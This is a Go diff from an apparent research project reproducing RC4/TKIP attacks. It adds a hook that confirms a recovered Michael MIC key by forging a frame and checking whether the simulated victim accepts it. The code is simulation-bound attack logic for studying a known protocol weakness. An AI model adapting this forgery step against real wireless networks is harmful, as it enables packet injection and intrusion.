@@ -16,6 +16,7 @@ import (
 	"errors"
 
 	"rc4break/internal/httpmodel"
+	"rc4break/internal/michael"
 	"rc4break/internal/packet"
 	"rc4break/internal/tkip"
 	"rc4break/internal/tlsrec"
@@ -153,6 +154,23 @@ func (inj *TCPInjector) Retransmit() tkip.Frame {
 func (inj *TCPInjector) Burst(n uint64, capture func(tkip.Frame)) {
 	for i := uint64(0); i < n; i++ {
 		capture(inj.Retransmit())
+	}
+}
+
+// ForgeryConfirm returns a Confirm hook for tkip.TrailerOracle that
+// validates a recovered MIC key the way a live attacker would (§7.4): forge
+// a packet under the key and observe whether the network accepts it. The
+// hook builds the forgery through the real encapsulation path (the
+// simulator's attacker shares the session's TK the same way
+// cmd/tkipattack's forgery demo does — over the air the equivalent step is
+// keystream reuse) and accepts the key iff the victim-side Decapsulate
+// does, so pure ICV collisions with a wrong Michael key are rejected.
+func ForgeryConfirm(s *tkip.Session, msdu []byte) func([michael.KeySize]byte) bool {
+	const probeTSC tkip.TSC = 0xF00D << 16 // outside the victim's capture classes
+	return func(micKey [michael.KeySize]byte) bool {
+		attacker := &tkip.Session{TK: s.TK, MICKey: micKey, TA: s.TA, DA: s.DA, SA: s.SA}
+		_, err := s.Decapsulate(attacker.Encapsulate(msdu, probeTSC))
+		return err == nil
 	}
 }
 
